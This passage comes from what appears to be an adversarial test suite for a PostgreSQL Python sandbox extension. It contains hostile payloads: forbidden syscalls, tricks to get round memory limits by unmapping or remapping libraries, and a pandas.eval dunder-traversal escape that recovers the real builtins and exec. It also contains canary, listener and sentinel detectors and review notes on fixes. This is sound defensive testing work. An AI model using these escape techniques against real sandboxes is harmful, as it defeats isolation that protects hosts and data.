            p_type, p_flags, _o, vaddr, _pa, filesz, _m = struct.unpack_from(
                "<IIQQQQQ", ctypes.string_at(base + phoff + i * phentsize, 56))
            if p_type == 1 and p_flags & 1:
                at = ctypes.string_at(base + vaddr, filesz).find(b"\\xcd\\x80")
                if at >= 0:
                    break
        else:
            raise RuntimeError("no int 0x80 in libc")
        # ctypes cannot set eax/ebx; whatever they hold, the filter must end
        # the process before any i386 system call runs
        gate = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long, ctypes.c_char_p)(base + vaddr + at)
        return gate(5, canary_tmp.encode())
        """, params="canary_tmp", off={SECCOMP} if IA32_ENTRY else {CRASH})
    if platform.machine() == "x86_64" else None,
    syscall_payload("syscall-memfd-create", "memfd_create", "b'x', 0"),
    syscall_payload("syscall-mmap-prot-exec", "mmap", "0, 4096, 7, 0x22, -1, 0"),
    syscall_payload("syscall-process-vm-readv", "process_vm_readv",
                    "libc.getppid(), 0, 0, 0, 0, 0"),
    syscall_payload("syscall-unshare-newuser", "unshare", "%d" % CLONE_NEWUSER),
    syscall_payload("syscall-setns", "setns", "0, 0"),
    syscall_payload("syscall-mount", "mount", "b'none', b'/tmp', b'tmpfs', 0, 0"),
    syscall_payload("syscall-bpf", "bpf", "0, 0, 0"),
    syscall_payload("syscall-userfaultfd", "userfaultfd", "0"),
    syscall_payload("syscall-io-uring-setup", "io_uring_setup", "8, (ctypes.c_char * 120)()"),
    syscall_payload("syscall-keyctl", "keyctl", "0, 0, 0, 0, 0"),
    syscall_payload("syscall-pidfd-open-parent", "pidfd_open", "libc.getppid(), 0"),
    syscall_payload("syscall-pidfd-send-signal", "pidfd_send_signal", "3, 9, 0, 0"),
    syscall_payload("syscall-perf-event-open", "perf_event_open",
                    "(ctypes.c_char * 128)(), 0, -1, -1, 0"),
    syscall_payload("syscall-prctl-pdeathsig-off", "prctl", "1, 0, 0, 0, 0"),
    syscall_payload("syscall-personality-exec", "personality", "0x0400000"),
    syscall_payload("syscall-shmget", "shmget", "0, 4096, 0o1666"),
    syscall_payload("syscall-pipe2", "pipe2", "(ctypes.c_int * 2)(), 0"),
    syscall_payload("syscall-socketpair", "socketpair", "1, 1, 0, (ctypes.c_int * 2)()"),
    syscall_payload("syscall-chmod-canary", "chmod", "canary_tmp.encode(), 0o666",
                    params="canary_tmp"),
    syscall_payload("syscall-rename-canary", "rename",
                    "canary_tmp.encode(), (write_dir + '/pwned-rename').encode()",
                    params="canary_tmp, write_dir"),
    syscall_payload("syscall-truncate-canary", "truncate", "canary_data.encode(), 0",
                    params="canary_data"),
    syscall_payload("syscall-symlink", "symlink",
                    "canary_data.encode(), (write_dir + '/pwned-link').encode()",
                    params="canary_data, write_dir"),
    syscall_payload("syscall-link", "link",
                    "canary_tmp.encode(), (write_dir + '/pwned-hardlink').encode()",
                    params="canary_tmp, write_dir"),
    syscall_payload("syscall-setpriority", "setpriority", "0, 0, -5"),
    syscall_payload("syscall-rt-sigqueueinfo-sentinel", "rt_sigqueueinfo",
                    "target_pid, 10, (ctypes.c_char * 128)()", params="target_pid"),
    syscall_payload("syscall-tgkill-sentinel", "tgkill", "target_pid, target_pid, 10",
                    params="target_pid"),
    # Page tables are kernel memory RLIMIT_AS does not count: two-page
    # read-only mappings of a library file, each straddling a GiB boundary,
    # cost 8 KiB of address space and four page-table pages (16 KiB) each.
    # At memory_mb 128 that was 256 MiB of page tables (1 GiB at the default
    # 512, kept by a workspace between calls); the worker reads VmPTE and
    # ends the call (sb_children.h, SB_PTE_BUDGET_KB)
    ctypes_payload("mmap-scattered-page-tables", """
        import os
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                              ctypes.c_int, ctypes.c_int, ctypes.c_long]
        fd = os.open(os.path.dirname(os.__file__) + "/os.py", os.O_RDONLY)
        made = 0
        for i in range(70000):
            want = (1 << 40) + (2 * i + 1) * (1 << 30) - 4096
            if libc.mmap(want, 8192, 1, 0x02 | 0x100000, fd, 0) != want:
                break
            ctypes.string_at(want, 1)
            ctypes.string_at(want + 4096, 1)
            made += 1
        return made
        """, off=(MEMORY,), options={"memory_mb": 128})
    if platform.machine() == "x86_64" else None,
    # The memory limit is address space on top of what the child inherits,
    # ~100 MB of it libraries mapped from files.  Unmapping some (or making
    # their pages writable and writing them) traded that room for memory:
    # review 87, 104 MB resident under 64 MB.  The worker seals its file
    # mappings (sb_seal.c), so munmap and mprotect fail on them: a call
    # holds at most its limit in new memory (SEAL_CHECK, below).  On a
    # kernel without mseal the data limit (RLIMIT_DATA) stops this order of
    # the trades, not every one (review 95).
    ctypes_payload("unmap-inherited-libraries-for-memory", SEAL_CHECK.replace(
        "TRADE", "freed = sum(n for s, n in segments if libc.munmap(s, n) == 0)\n"
                 "    written = 0"),
                   off=(OK,), options={"memory_mb": 64}),
    ctypes_payload("write-inherited-library-pages-for-memory", SEAL_CHECK.replace(
        "TRADE", "freed = written = 0\n"
                 "    for s, n in segments:\n"
                 "        if libc.mprotect(s, n, 3) == 0:\n"
                 "            ctypes.memset(s, 1, n)\n"
                 "            freed += n\n"
                 "    written = freed"),
                   off=(OK,), options={"memory_mb": 64}),
    # Where the libraries are not sealed (review 95): unmapped and mapped
    # again as shared memory, which the data limit does not count (the
    # filter refuses shared memory of its own); made writable, or mapped
    # over, once the address space is full, when the kernel checks no data
    # limit; or unmapped after the written blocks were made read-only (no
    # longer data) for as many more.  The worker kills a child holding more
    # private memory than its data limit allows.  (Linux 6.18 refuses the
    # mapping over them with ENOMEM once the address space is full; older
    # kernels subtracted what it replaced first.)
    ctypes_payload("unmap-inherited-libraries-for-shared-memory", SEAL_CHECK.replace(
        "TRADE", "freed = written = 0\n"
                 "    for s, n in segments:\n"
                 "        if libc.munmap(s, n) == 0:\n"
                 "            freed += n\n"
                 "            p = libc.mmap(None, n, 3, 0x21, -1, 0)\n"
                 "            if p is not None and p != (1 << 64) - 1:\n"
                 "                ctypes.memset(p, 1, n)\n"
                 "                written += n"),
                   off=(OK, SECCOMP), options={"memory_mb": 64}),
    ctypes_payload("write-inherited-library-pages-with-address-space-full",
                   FULL_TRADE_CHECK.replace(
                       "TRADE", "for s, n in segments:\n"
                                "        if libc.mprotect(s, n, 3) == 0:\n"
                                "            ctypes.memset(s, 1, n)\n"
                                "            written += n"),
                   off=(OK, MEMORY), options={"memory_mb": 64}),
    ctypes_payload("map-over-inherited-libraries-with-address-space-full",
                   FULL_TRADE_CHECK.replace(
                       "TRADE", "for s, n in segments:\n"
                                "        if libc.mmap(s, n, 3, 0x32, -1, 0) == s:\n"
                                "            ctypes.memset(s, 1, n)\n"
                                "            written += n"),
                   off=(OK, MEMORY), options={"memory_mb": 64}),
    ctypes_payload("unmap-inherited-libraries-after-blocks-made-read-only",
                   FULL_TRADE_CHECK.replace(
                       "TRADE", "for s, n in segments:\n"
                                "        libc.munmap(s, n)\n"
                                "    for p in blocks:\n"
                                "        libc.mprotect(p, 4 << 20, 1)\n"
                                "    while written < (256 << 20):\n"
                                "        p = libc.mmap(None, 4 << 20, 3, 0x22, -1, 0)\n"
                                "        if p is None or p == (1 << 64) - 1:\n"
                                "            break\n"
                                "        ctypes.memset(p, 1, 4 << 20)\n"
                                "        written += 4 << 20"),
                   off=(OK, MEMORY), options={"memory_mb": 64}),
    # review 96: the worker credited what the kernel counts as stack
    # (VmStk): mappings made MAP_GROWSDOWN, or pages of the stack moved
    # and grown with mremap, held the libraries' room (119 MB at 64) and
    # raised the allowance by as much.  The filter refuses MAP_GROWSDOWN,
    # and the worker credits at most 8 MB of stack.
    ctypes_payload("unmap-inherited-libraries-for-growsdown-memory",
                   FULL_TRADE_CHECK.replace(
                       "TRADE", "for s, n in segments:\n"
                                "        libc.munmap(s, n)\n"
                                "    while written < (256 << 20):\n"
                                "        p = libc.mmap(None, 4 << 20, 3, 0x122, -1, 0)\n"
                                "        if p is None or p == (1 << 64) - 1:\n"
                                "            break\n"
                                "        ctypes.memset(p, 1, 4 << 20)\n"
                                "        written += 4 << 20"),
                   off=(OK, SECCOMP), options={"memory_mb": 64}),
    ctypes_payload("unmap-inherited-libraries-for-stack-pages-moved",
                   FULL_TRADE_CHECK.replace(
                       "TRADE", "freed = sum(n for s, n in segments if libc.munmap(s, n) == 0)\n"
                                "    libc.mremap.restype = ctypes.c_void_p\n"
                                "    libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t,\n"
                                "                            ctypes.c_size_t, ctypes.c_int]\n"
                                "    top = ctypes.c_void_p.in_dll(libc, '__libc_stack_end').value\n"
                                "    low = (top - (6 << 20)) & ~4095\n"
                                "    if freed:\n"
                                "        ctypes.memset(low, 0, 4096)\n"
                                "    step = 4 << 20\n"
                                "    # (sealed: no room for the stack to grow into)\n"
                                "    while freed and step >= (1 << 20) and written < (256 << 20):\n"
                                "        p = libc.mremap(low, 4096, step, 1)\n"
                                "        if p is None or p == (1 << 64) - 1:\n"
                                "            step >>= 1\n"
                                "            continue\n"
                                "        ctypes.memset(p, 1, step)\n"
                                "        written += step\n"
                                "        low += 4096"),
                   off=(OK, MEMORY), options={"memory_mb": 64}),
    # review 97: MAP_HUGETLB took pages from the host's pool of huge pages
    # (kept for shared_buffers), which no resident count shows: 64 MB of
    # them and 57 MB of traded libraries held at memory_mb 64.  The filter
    # refuses it; where the host has no pool the call got ENOMEM, through.
    ctypes_payload("map-huge-pages-from-the-hosts-pool", """
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int,
                              ctypes.c_int, ctypes.c_int, ctypes.c_long]
        p = libc.mmap(None, 2 << 20, 3, 0x22 | 0x40000, -1, 0)
        raise RuntimeError("mmap with MAP_HUGETLB passed the filter: %r, errno %d"
                           % (p, ctypes.get_errno()))
        """),
    # review 93: Linux 6.18 reads prctl(PR_SET_THP_DISABLE)'s arg2 as flags,
    # and PR_THP_DISABLE_EXCEPT_ADVISED (2) turned huge pages back on where
    # madvise(MADV_HUGEPAGE) asked: review 91's trade again, 6 GB held at
    # memory_mb 64.  The filter allows only the call the child makes itself
    ctypes_payload("thp-back-on-except-advised",
                   "return check(libc.prctl(41, 1, 2, 0, 0), 'prctl')"),
    # Honest code met it first: a list of strings past its limit, MemoryError
    # caught, held 81 MB at memory_mb 16 (malloc grew into the reserve);
    # within its limit plus the inherited heap's free room now (19 MB)
    Payload("list-of-strings-held-within-memory-limit", """
        def main():
            x = []
            try:
                while True:
                    x.append(" " * 100000)
            except MemoryError:
                held = len(x) * 100000 >> 20
            del x
            if held > 32:
                raise RuntimeError("%d MB of strings held at memory_mb 16" % held)
            return held
        """, on={OK}, off={OK}, options={"memory_mb": 16}),
    # The same with glibc's reserved heap (the worker's warm-up once ran a
    # thread, whose arena reserved 64 MB): made writable with the address
    # space full (honest code did it too: malloc falls back to that arena
    # when the main heap meets the limit, and a list of strings held 81 MB
    # at memory_mb 16), or unmapped and mapped again shared, which the data
    # limit does not count (review 93: 124 MB held at 64)
    ctypes_payload("write-inherited-reserved-heap-for-memory", RESERVED_HEAP_CHECK.replace(
        "TRADE", "for s, n in segments:\n"
                 "        if libc.mprotect(s, n, 3) == 0:\n"
                 "            ctypes.memset(s, 1, n)\n"
                 "            written += n"),
                   off=(OK,), options={"memory_mb": 64})
    if platform.machine() == "x86_64" else None,
    ctypes_payload("unmap-inherited-reserved-heap-for-shared-memory", RESERVED_HEAP_CHECK.replace(
        "TRADE", "for s, n in segments:\n"
                 "        if libc.munmap(s, n) == 0:\n"
                 "            p = libc.mmap(None, n, 3, 0x21, -1, 0)\n"
                 "            if p is not None and p != (1 << 64) - 1:\n"
                 "                ctypes.memset(p, 1, n)\n"
                 "                written += n"),
                   off=(OK,), options={"memory_mb": 64})
    if platform.machine() == "x86_64" else None,
]
PAYLOADS = [p for p in PAYLOADS + SYSCALL_PAYLOADS if p is not None]

# The escape used by the "bypass" mode: real builtins through pandas.eval.
BYPASS_TEMPLATE = '''\
import pandas as pd
SOURCE = {source!r}
def main({params}):
    d = "_" * 2
    subclasses = pd.eval("x.@class@.@base@.@subclasses@()".replace("@", d),
                         engine="python", local_dict={{"x": ()}})
    for c in subclasses:
        if str(c) == "<class 'os._wrap_close'>":
            g = pd.eval("c.@init@.@globals@".replace("@", d), engine="python",
                        local_dict={{"c": c}})
    real = dict(g[d + "builtins" + d])
    real["print"] = print
    ns = {{d + "builtins" + d: real, d + "name" + d: "bypass"}}
    real["exec"](SOURCE + CALL, ns)
    return ns["call_main"]({{{inputs}}})
CALL = """
def call_main(inputs):
    c = main.__code__
    return main(**{{n: inputs[n] for n in c.co_varnames[:c.co_argcount]}})
"""
'''


# --------------------------------------------------------------------------
# the environment the payloads attack

class Notices:
    """Collects every NOTICE (psycopg2 trims a plain list to 50)."""

    def __init__(self):
        self.items = []

    def append(self, item):
        self.items.append(item)


class Sentinel:
    """A process running as postgres that reports any signal it receives."""

    SIGNALS = (signal.SIGUSR1, signal.SIGUSR2, signal.SIGIO, signal.SIGURG,
               signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGALRM,
               signal.SIGWINCH, signal.SIGCONT, signal.SIGPIPE, signal.SIGCHLD)

    def __init__(self, uid, gid):
        report_r, report_w = os.pipe()
        ctl_r, ctl_w = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                os.close(report_r)
                os.close(ctl_w)
                os.setgroups([])
                os.setgid(gid)
                os.setuid(uid)

                def handler(signum, _frame):
                    os.write(report_w, b"%d\n" % signum)
                for s in self.SIGNALS:
                    signal.signal(s, handler)
                os.write(report_w, b"ready\n")
                while os.read(ctl_r, 1):    # until the suite closes ctl_w
                    pass
            finally:
                os._exit(0)
        os.close(report_w)
        os.close(ctl_r)
        # not before it runs as postgres with its handlers set: a postgres
        # process could not signal it yet (the self-check's kill failed
        # with EPERM on a loaded machine, and its forked child then ran the
        # suite's cleanup, removing the canaries)
        if os.read(report_r, 6) != b"ready\n":
            raise RuntimeError("the sentinel did not start")
        self.pid, self.report, self.ctl = pid, report_r, ctl_w
        os.set_blocking(report_r, False)

    def received(self):
        try:
            return os.read(self.report, 4096).decode().split()
        except BlockingIOError:
            return []

    def alive(self):
        return os.waitpid(self.pid, os.WNOHANG) == (0, 0)

    def stop(self):
        os.close(self.ctl)
        try:
            os.waitpid(self.pid, 0)
        except ChildProcessError:
            pass


class Target:
    """Canaries, a write directory, listeners and a sentinel to attack."""

    def __init__(self):
        pg = pwd.getpwnam("postgres")
        self.secret = "pysandbox-secret-" + secrets.token_hex(16)
        tag = secrets.token_hex(4)
        self.canary_data = os.path.join(DATA_DIR, "pysandbox_canary_" + tag)
        self.canary_tmp = "/tmp/pysandbox-canary-" + tag
        for path, mode in ((self.canary_data, 0o600), (self.canary_tmp, 0o644)):
            with open(path, "w") as f:
                f.write(self.secret + "\n")
            os.chown(path, pg.pw_uid, pg.pw_gid)
            os.chmod(path, mode)
        self.canary_stat = {p: self.file_state(p)
                            for p in (self.canary_data, self.canary_tmp)}
        self.write_dir = tempfile.mkdtemp(prefix="pysandbox-hostile-")
        os.chmod(self.write_dir, 0o777)
        self.sock_dir = tempfile.mkdtemp(prefix="pysandbox-hostile-sock-")
        os.chmod(self.sock_dir, 0o777)

        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix_path = os.path.join(self.sock_dir, "listen.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_path)
        os.chmod(self.unix_path, 0o777)
        self.unix.listen(16)
        for s in (self.tcp, self.udp, self.unix):
            s.setblocking(False)
        self.sentinel = Sentinel(pg.pw_uid, pg.pw_gid)
        self.datadir_entries = set(os.listdir(DATA_DIR))

    @staticmethod
    def file_state(path):
        st = os.stat(path)
        with open(path) as f:
            return (f.read(), st.st_size, st.st_mtime_ns, st.st_mode, st.st_uid)

    def inputs(self):
        return {
            "canary_data": self.canary_data, "canary_tmp": self.canary_tmp,
            "write_dir": self.write_dir, "data_dir": DATA_DIR,
            "tcp_port": self.tcp.getsockname()[1],
            "udp_port": self.udp.getsockname()[1],
            "unix_path": self.unix_path,
            "pg_socket": os.path.join(os.environ.get("PGHOST", TEST_DIR),
                                      ".s.PGSQL.%s" % os.environ.get("PGPORT", "5432")),
            "target_pid": self.sentinel.pid,
        }

    def side_effects(self):
        """Everything the last payload managed to do outside the sandbox."""
        problems = []
        written = os.listdir(self.write_dir)
        if written:
            problems.append("files appeared in the write directory: %s" % written)
            for name in written:
                path = os.path.join(self.write_dir, name)
                shutil.rmtree(path) if os.path.isdir(path) else os.unlink(path)
        new = set(os.listdir(DATA_DIR)) - self.datadir_entries
        if new:
            problems.append("new entries in the data directory: %s" % sorted(new))
            self.datadir_entries |= new
        for path, state in self.canary_stat.items():
            try:
                now = self.file_state(path)
            except OSError as exc:
                problems.append("canary %s is gone: %s" % (path, exc))
                continue
            if now != state:
                problems.append("canary %s was modified" % path)
        for name, sock in (("TCP", self.tcp), ("Unix", self.unix)):
            try:
                conn, _addr = sock.accept()
                problems.append("a %s connection reached the listener" % name)
                conn.close()
            except BlockingIOError:
                pass
        try:
            data = self.udp.recv(4096)
            problems.append("a UDP datagram reached the listener: %r" % data[:40])
        except BlockingIOError:
            pass
        got = self.sentinel.received()
        if got:
            problems.append("the sentinel (pid %d) received signals %s"
                            % (self.sentinel.pid, got))
        if not self.sentinel.alive():
            problems.append("the sentinel (pid %d) was killed" % self.sentinel.pid)
            self.sentinel = Sentinel(pwd.getpwnam("postgres").pw_uid,
                                     pwd.getpwnam("postgres").pw_gid)
        return problems

    def close(self):
        self.sentinel.stop()
        for s in (self.tcp, self.udp, self.unix):
            s.close()
        for path in (self.canary_data, self.canary_tmp):
            try:
                os.unlink(path)
            except OSError:
                pass
        shutil.rmtree(self.write_dir, ignore_errors=True)
        shutil.rmtree(self.sock_dir, ignore_errors=True)


# --------------------------------------------------------------------------
# the server

class Server:
    """One superuser session and what must stay true about the server."""

    def __init__(self):
        self.conn = psycopg2.connect("", connect_timeout=10)
        self.conn.autocommit = True
        self.notices = self.conn.notices = Notices()
        self.cur = self.conn.cursor()
        self.cur.execute("CREATE EXTENSION IF NOT EXISTS pysandbox")
        # a safety net: a hang shows as "statement-timeout", never as a pass
        self.cur.execute("SET statement_timeout = '60s'")
        self.backend = self.conn.get_backend_pid()
        self.postmaster = postmaster_pid()
        self.log_offset = os.path.getsize(LOG_PATH) if os.path.exists(LOG_PATH) else 0
        self.worker = None

    def set_python_layer(self, on):
        self.cur.execute("SET pysandbox.python_layer = %s" % ("on" if on else "off"))
        # after SET ROLE a call has the layer on unless a login as that
        # role would have it off: the ordinary role's stored value
        self.cur.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", (self.ORDINARY,))
        if self.cur.fetchone() is not None:
            self.cur.execute("ALTER ROLE %s %s" % (self.ORDINARY, "RESET pysandbox.python_layer"
                                                   if on else "SET pysandbox.python_layer = off"))

    def set_filesystem_layer(self, layer):
        self.cur.execute("SET pysandbox.filesystem_layer = %s" % layer)

    via = "execute"
    role = None     # the role the next call runs as (None: this superuser)
    ORDINARY = "pysandbox_hostile_ordinary"

    def ordinary_role(self):
        """An ordinary role that may call sandbox_execute and create functions
        in the language (sql() refuses superusers)."""
        self.cur.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", (self.ORDINARY,))
        if self.cur.fetchone() is None:
            self.cur.execute("CREATE ROLE %s" % self.ORDINARY)
        self.cur.execute("GRANT EXECUTE ON FUNCTION sandbox_execute(text, jsonb, text[], jsonb) "
                         "TO %s" % self.ORDINARY)
        self.cur.execute("GRANT USAGE ON LANGUAGE pysandbox TO %s" % self.ORDINARY)
        self.cur.execute("GRANT EXECUTE ON FUNCTION sandbox_workspace_open(jsonb), "
                         "sandbox_workspace_close(text) TO %s" % self.ORDINARY)
        self.cur.execute("GRANT CREATE ON SCHEMA public TO %s" % self.ORDINARY)

    def call(self, code, inputs, options):
        """Run sandbox_execute (or, via "language", a function of the code).

        Returns (sqlstate, message, detail, texts, result, ms); texts holds
        every string the client saw, for the secret check.
        """
        self.notices.items = []
        sqlstate, message, detail, result = None, "", "", None
        start = time.monotonic()
        try:
            if self.via == "language":
                result = self.call_function(code, inputs, options)
            elif self.via == "workspace":
                result = self.call_workspace(code, inputs, options)
            else:
                if self.role:
                    self.cur.execute("SET ROLE %s" % self.role)
                try:
                    self.cur.execute("SELECT sandbox_execute(%s, %s, '{main}', %s)",
                                     (code, psycopg2.extras.Json(inputs),
                                      psycopg2.extras.Json(options)))
                    result = self.cur.fetchone()[0]
                finally:
                    if self.role:
                        self.cur.execute("RESET ROLE")
            texts = [repr(result)]
        except psycopg2.Error as exc:
            d = exc.diag
            sqlstate, message, detail = exc.pgcode, d.message_primary or str(exc), \
                d.message_detail or ""
            texts = [str(exc), message, detail, d.message_hint or "", d.context or ""]
        ms = (time.monotonic() - start) * 1000
        texts += [str(n) for n in self.notices.items]
        return sqlstate, message, detail, texts, result, ms

    WORKSPACE_LIMITS = ("timeout_ms", "cpu_ms", "memory_mb")
    PRIMING = "def main(ws):\n    ws['earlier'] = list(range(10))\n    return 1\n"

    def call_workspace(self, code, inputs, options):
        """The payload as the second call of a workspace of its own, opened
        with the payload's limits; closed after it."""
        opening = {k: v for k, v in options.items() if k in self.WORKSPACE_LIMITS}
        rest = {k: v for k, v in options.items() if k not in self.WORKSPACE_LIMITS}
        if self.role:
            self.cur.execute("SET ROLE %s" % self.role)
        try:
            self.cur.execute("SELECT sandbox_workspace_open(%s)", (psycopg2.extras.Json(opening),))
            ws = self.cur.fetchone()[0]
            rest["workspace"] = ws
            try:
                self.cur.execute("SELECT sandbox_execute(%s, '{}', '{main}', %s)",
                                 (self.PRIMING, psycopg2.extras.Json({"workspace": ws})))
                self.cur.execute("SELECT sandbox_execute(%s, %s, '{main}', %s)",
                                 (code, psycopg2.extras.Json(inputs), psycopg2.extras.Json(rest)))
                return self.cur.fetchone()[0]
            finally:
                self.cur.execute("SELECT sandbox_workspace_close(%s)", (ws,))
        finally:
            if self.role:
                self.cur.execute("RESET ROLE")

    # options as the settings a language function runs with
    SETTINGS = {"timeout_ms": ("pysandbox.timeout", "%dms"),
                "cpu_ms": ("pysandbox.cpu_limit", "%dms"),
                "memory_mb": ("pysandbox.memory_limit", "%dMB"),
                "max_output_bytes": ("pysandbox.max_output_bytes", "%d")}

    def call_function(self, code, inputs, options):
        """The payload as a LANGUAGE pysandbox function: its module is the
        body, main()'s parameters the arguments (jsonb); returns {"main":
        value} as sandbox_execute would."""
        params = []
        try:
            for node in ast.parse(code).body:
                if isinstance(node, ast.FunctionDef) and node.name == "main":
                    params = [a.arg for a in node.args.args if a.arg in inputs]
        except (SyntaxError, ValueError, MemoryError, RecursionError):
            pass    # CREATE FUNCTION reports it
        # in a list: a str result is JSON text in a jsonb function, not a
        # JSON string as sandbox_execute makes it
        body = "%s\nreturn [main(%s)]\n" % (code, ", ".join("%s=%s" % (p, p) for p in params))
        self.cur.execute("DROP FUNCTION IF EXISTS hostile_payload")
        for key, (guc, fmt) in self.SETTINGS.items():
            if key in options:
                self.cur.execute("SET %s = '%s'" % (guc, fmt % options[key]))
        try:
            if self.role:
                self.cur.execute("SET ROLE %s" % self.role)
            self.cur.execute("CREATE FUNCTION hostile_payload(%s) RETURNS jsonb "
                             "LANGUAGE pysandbox AS %%s"
                             % ", ".join("%s jsonb" % p for p in params), (body,))
            self.cur.execute("SELECT hostile_payload(%s)" % ", ".join(["%s"] * len(params)),
                             [psycopg2.extras.Json(inputs[p]) for p in params])
            return {"main": self.cur.fetchone()[0][0]}
        finally:
            if self.role:
                self.cur.execute("RESET ROLE")
            for key, (guc, _fmt) in self.SETTINGS.items():
                if key in options:
                    self.cur.execute("RESET %s" % guc)

    def new_log(self):
        try:
            with open(LOG_PATH, "rb") as f:
                f.seek(self.log_offset)
                data = f.read()
        except OSError:
            return ""
        self.log_offset += len(data)
        return data.decode("utf-8", "replace")

    def health(self, texts_to_scan, secret):
        """Problems with processes, the backend, the postmaster and the log."""
        problems = []
        if any(secret in t for t in texts_to_scan):
            problems.append("THE SECRET LEAKED into the result, notices or error")
        log = self.new_log()
        if secret in log:
            problems.append("THE SECRET LEAKED into the server log")
        for line in log.splitlines():
            if CRASH_LOG.search(line):
                problems.append("server log: %s" % line.strip()[:200])

        # the worker keeps one spare child (never handed to a call) for the
        # next call; any other process under it is a leftover.  A child that
        # exited with its last frame may be unreaped for a moment (a zombie,
        # or still exiting): leftovers must be gone within 2 s.
        deadline = time.monotonic() + 2.0
        while True:
            table = process_table()
            mine = descendants(table, self.backend)
            workers = [p for p in mine if table[p][2] == self.backend]
            spares = [p for p in mine if p not in workers and is_spare(p)
                      and table[p][2] in workers]
            extra = [p for p in mine if p not in workers and p not in spares]
            if not extra or time.monotonic() > deadline:
                break
            time.sleep(0.02)
        if len(workers) > 1 or any(exe_of(p) != WORKER_EXE for p in workers):
            problems.append("backend children are not just one worker: %s"
                            % [(p, table[p][0]) for p in workers])
        if len(spares) > 1:
            problems.append("more than one spare under the worker: %s" % spares)
        if extra:
            problems.append("processes left under the worker: %s"
                            % [(p, table[p][0], table[p][1]) for p in extra])
        zombies = [p for p in mine if table[p][1] == "Z"]
        if zombies:
            problems.append("zombies under the backend: %s" % zombies)
        if not workers and self.worker is not None:
            problems.append("the backend's worker %d is gone" % self.worker)
            self.worker = None
        if workers:
            if self.worker is not None and workers[0] != self.worker:
                problems.append("the worker was replaced (%d -> %d)"
                                % (self.worker, workers[0]))
            self.worker = workers[0]
        problems += self.strays(table)

        try:
            self.cur.execute("SELECT 1, pg_backend_pid()")
            one, pid = self.cur.fetchone()
            if one != 1 or pid != self.backend:
                problems.append("the session changed backend (%d -> %d)" % (self.backend, pid))
        except psycopg2.Error as exc:
            problems.append("the backend is gone: %s" % str(exc).strip())
        try:
            now = postmaster_pid()
        except OSError:
            now = None
        if now != self.postmaster or not os.path.exists("/proc/%d" % self.postmaster):
            problems.append("the postmaster restarted (%s -> %s)" % (self.postmaster, now))
        return problems

    def strays(self, table):
        """Workers outside any backend, and zombies anywhere under the postmaster."""
        problems = []
        under_pm = set(descendants(table, self.postmaster))

        def orphans(table):
            # A sandbox process whose worker was killed (here, or a cluster an
            # earlier suite stopped) dies of its parent-death signal and is
            # then reaped by init, which takes a second or two on some hosts:
            # dead ones (state Z) do not count, live ones must be gone in 3 s.
            return [(pid, ppid) for pid, (comm, state, ppid) in table.items()
                    if comm.startswith("pysandbox-work") and state != "Z"
                    and pid not in under_pm and not owned_by_a_backend(table, pid)]
        found = orphans(table)
        deadline = time.monotonic() + 3.0
        while found and time.monotonic() < deadline:
            time.sleep(0.1)
            found = orphans(process_table())
        for pid, ppid in found:
            problems.append("orphaned sandbox process %d (parent %d)" % (pid, ppid))
        zombies = [p for p in under_pm if table.get(p, ("", ""))[1] == "Z"]
        if zombies:
            time.sleep(0.2)     # another session's child may be mid-reap
            table = process_table()
            zombies = [p for p in zombies if table.get(p, ("", ""))[1] == "Z"]
            if zombies:
                problems.append("zombies under the postmaster: %s"
                                % [(p, table[p][0]) for p in zombies])
        return problems


def self_check(server, target):
    """Make each detector fire once from outside, so a pass means something."""
    pg = pwd.getpwnam("postgres")
    with open(os.path.join(target.write_dir, "self-check"), "w") as f:
        f.write("x")
    socket.create_connection(target.tcp.getsockname()).close()
    u = socket.socket(socket.AF_UNIX)
    u.connect(target.unix_path)
    u.close()
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    d.sendto(b"self-check", target.udp.getsockname())
    d.close()
    pid = os.fork()
    if pid == 0:            # a postgres-uid process may signal the sentinel
        try:
            os.setgid(pg.pw_gid)
            os.setuid(pg.pw_uid)
            os.kill(target.sentinel.pid, signal.SIGUSR1)
        finally:
            os._exit(0)     # never the suite's own code, or its cleanup
    os.waitpid(pid, 0)
    time.sleep(0.2)
    found = " | ".join(target.side_effects()
                       + server.health(["x" + target.secret + "x"], target.secret))
    missing = [what for what in ("write directory", "TCP connection", "Unix connection",
                                 "UDP datagram", "received signals", "SECRET LEAKED")
               if what not in found]
    if missing:
        print("FAIL detectors: these did not fire: %s" % ", ".join(missing), flush=True)
        return False
    print("ok   detectors fire on a planted file, TCP/Unix/UDP contact, a signal "
          "and the secret", flush=True)
    return True


def validated_memo_check(server):
    """The validator is skipped only for code that passed it under the same rules.

    A session remembers code it ran to a result (sb_main.c) and tells the
    child to skip the validator for it; the DEBUG1 usage line says so.  It
    must not carry over to a narrower import allowlist, nor from a call made
    with the Python layer off.
    """
    problems = []

    def run(code):
        server.notices.items = []
        try:
            server.cur.execute("SELECT sandbox_execute(%s)", (code,))
            outcome = server.cur.fetchone()[0]
        except psycopg2.Error as exc:
            outcome = exc.pgcode
        skipped = any("code validated by an earlier call" in str(n) for n in server.notices.items)
        return outcome, skipped

    def run_rows(code):
        server.notices.items = []
        server.cur.execute("SELECT * FROM sandbox_rows(%s, '{}', 'main') AS t(x int)", (code,))
        rows = server.cur.fetchall()
        skipped = any("code validated by an earlier call" in str(n) for n in server.notices.items)
        return rows, skipped

    def expect(what, got, wanted):
        if got != wanted:
            problems.append("%s: %r, expected %r" % (what, got, wanted))

    uses_math = "import math\ndef main():\n    return math.floor(2.5)\n"
    uses_os = "import os\ndef main():\n    return os.name\n"
    server.cur.execute("SET client_min_messages = debug1")
    try:
        expect("first call", run(uses_math), ({"main": 2}, False))
        expect("same code again", run(uses_math), ({"main": 2}, True))
        server.cur.execute("SET pysandbox.allowed_modules = 'json'")
